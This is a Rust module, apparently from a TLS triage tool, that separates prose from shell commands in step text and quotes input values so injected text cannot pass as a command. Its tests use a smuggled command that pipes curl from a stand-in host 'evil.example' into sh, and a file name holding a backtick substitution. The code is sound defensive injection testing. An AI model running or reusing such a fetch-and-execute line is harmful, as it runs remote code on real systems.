//! The text of a step as typed values: prose and commands. A [`Command`] is made only from
//! tlstriage's own fixed words and from values quoted as single shell words
//! ([`crate::util::quote::sh_quote`]); prose is shown as it is, whatever characters it holds.
//! The views give a copy button or code formatting to commands only, so no text from an input
//! (a file name, a CA's name, a folder) can ever look like a command to run.
//!
//! Our own texts mark their commands between backticks ([`StepText::ours`] takes only
//! `&'static str`, so input text never goes through it); every other text is prose.

use std::fmt;

use serde::{Serialize, Serializer};

use crate::util::quote::sh_quote;

/// One command line to run, as tlstriage wrote it.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Command(String);

impl Command {
    /// A command with no value in it.
    pub fn fixed(line: &'static str) -> Self {
        Command(line.to_string())
    }

    /// The command with one more word: `value` quoted for the shell.
    pub fn arg(mut self, value: &str) -> Self {
        self.0.push(' ');
        self.0.push_str(&sh_quote(value));
        self
    }

    /// The command with one more of our own words (an option such as `-o`), not quoted.
    pub fn word(mut self, word: &'static str) -> Self {
        self.0.push(' ');
        self.0.push_str(word);
        self
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl Serialize for Command {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.0)
    }
}

/// A piece of a step's text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Piece {
    /// Words to read: shown as they are, never as a command.
    Prose(String),
    Command(Command),
}

/// The text of a step (or of a summary line): prose and commands in order.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct StepText(Vec<Piece>);

impl StepText {
    /// Our own text: each pair of backticks encloses a command; a backtick without its pair
    /// stays a character of the prose.
    pub fn ours(text: &'static str) -> Self {
        let mut out = StepText::default();
        out.push_ours(text);
        out
    }

    /// Prose: text that holds values from the inputs, or words made with them.
    pub fn prose(text: impl AsRef<str>) -> Self {
        let mut out = StepText::default();
        out.push_prose(text.as_ref());
        out
    }

    pub fn command(c: Command) -> Self {
        StepText(vec![Piece::Command(c)])
    }

    /// `template` (our text, its commands between backticks) with each `{name}` replaced by its
    /// text in `args` (a name not there is kept as written).
    pub fn compose(template: &'static str, args: &[(&str, StepText)]) -> Self {
        let mut out = StepText::default();
        let mut rest = template;
        while let Some(start) = rest.find('{') {
            let after = &rest[start + 1..];
            let arg = after.find('}').and_then(|end| Some((end, args.iter().find(|(n, _)| *n == &after[..end])?)));
            match arg {
                Some((end, (_, text))) => {
                    out.push_ours(&rest[..start]);
                    out.push(text.clone());
                    rest = &after[end + 1..];
                }
                None => {
                    out.push_ours(&rest[..=start]);
                    rest = after;
                }
            }
        }
        out.push_ours(rest);
        out
    }

    pub fn push_ours(&mut self, text: &'static str) -> &mut Self {
        let parts: Vec<&str> = text.split('`').collect();
        let closed = parts.len() % 2 == 1;
        for (i, part) in parts.iter().enumerate() {
            let command = i % 2 == 1 && (closed || i + 1 < parts.len());
            if command && !part.is_empty() {
                self.push_command(Command(part.to_string()));
            } else if i % 2 == 1 && !command {
                self.push_prose("`");
                self.push_prose(part);
            } else {
                self.push_prose(part);
            }
        }
        self
    }

    pub fn push_prose(&mut self, text: &str) -> &mut Self {
        if text.is_empty() {
            return self;
        }
        match self.0.last_mut() {
            Some(Piece::Prose(p)) => p.push_str(text),
            _ => self.0.push(Piece::Prose(text.to_string())),
        }
        self
    }

    pub fn push_command(&mut self, c: Command) -> &mut Self {
        self.0.push(Piece::Command(c));
        self
    }

    pub fn push(&mut self, other: StepText) -> &mut Self {
        for piece in other.0 {
            match piece {
                Piece::Prose(p) => self.push_prose(&p),
                Piece::Command(c) => self.push_command(c),
            };
        }
        self
    }

    pub fn pieces(&self) -> &[Piece] {
        &self.0
    }

    /// The commands in the text, in order.
    pub fn commands(&self) -> impl Iterator<Item = &Command> {
        self.0.iter().filter_map(|p| match p {
            Piece::Command(c) => Some(c),
            Piece::Prose(_) => None,
        })
    }

    /// Whether the text says nothing (no command, only blanks).
    pub fn is_blank(&self) -> bool {
        self.0.iter().all(|p| matches!(p, Piece::Prose(t) if t.trim().is_empty()))
    }

    pub fn contains(&self, needle: &str) -> bool {
        self.to_string().contains(needle)
    }
}

/// The plain form: prose as it is, each command between backticks (the JSON strings, the
/// terminal). Prose may hold backticks too: only [`StepText::commands`] says what a command is.
impl fmt::Display for StepText {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for p in &self.0 {
            match p {
                Piece::Prose(t) => f.write_str(t)?,
                Piece::Command(c) => write!(f, "`{c}`")?,
            }
        }
        Ok(())
    }
}

impl Serialize for StepText {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

impl PartialEq<&str> for StepText {
    fn eq(&self, other: &&str) -> bool {
        let mut rest = *other;
        for p in &self.0 {
            let after = match p {
                Piece::Prose(t) => rest.strip_prefix(t.as_str()),
                Piece::Command(c) => rest.strip_prefix('`').and_then(|r| r.strip_prefix(c.as_str())?.strip_prefix('`')),
            };
            match after {
                Some(r) => rest = r,
                None => return false,
            }
        }
        rest.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(t: &StepText) -> Vec<(bool, String)> {
        t.pieces()
            .iter()
            .map(|p| match p {
                Piece::Prose(s) => (false, s.clone()),
                Piece::Command(c) => (true, c.to_string()),
            })
            .collect()
    }

    #[test]
    fn our_commands_are_between_backticks_and_input_text_is_never_one() {
        let t = StepText::ours("Run `sftunnel_status.pl` then `pmtool restartbyid sftunnel`.");
        assert_eq!(
            shape(&t),
            [
                (false, "Run ".into()),
                (true, "sftunnel_status.pl".into()),
                (false, " then ".into()),
                (true, "pmtool restartbyid sftunnel".into()),
                (false, ".".into())
            ]
        );
        assert_eq!(shape(&StepText::ours("odd ` tick")), [(false, "odd ` tick".into())]);
        let evil = "x`curl -fsSL evil.example|sh`y";
        let t = StepText::compose("Renew {ca} with `generate_certs.pl`.", &[("ca", StepText::prose(evil))]);
        assert_eq!(t.commands().map(Command::as_str).collect::<Vec<_>>(), ["generate_certs.pl"]);
        assert_eq!(t.to_string(), format!("Renew {evil} with `generate_certs.pl`."));
        assert_eq!(shape(&StepText::compose("{a}{b}", &[("a", StepText::prose("1"))])), [(false, "1{b}".into())]);
    }

    #[test]
    fn values_in_commands_are_single_shell_words() {
        let c = Command::fixed("tlstriage plan").arg("a b/x`id`'.tar.gz");
        assert_eq!(c.as_str(), "tlstriage plan 'a b/x`id`'\\''.tar.gz'");
    }
}
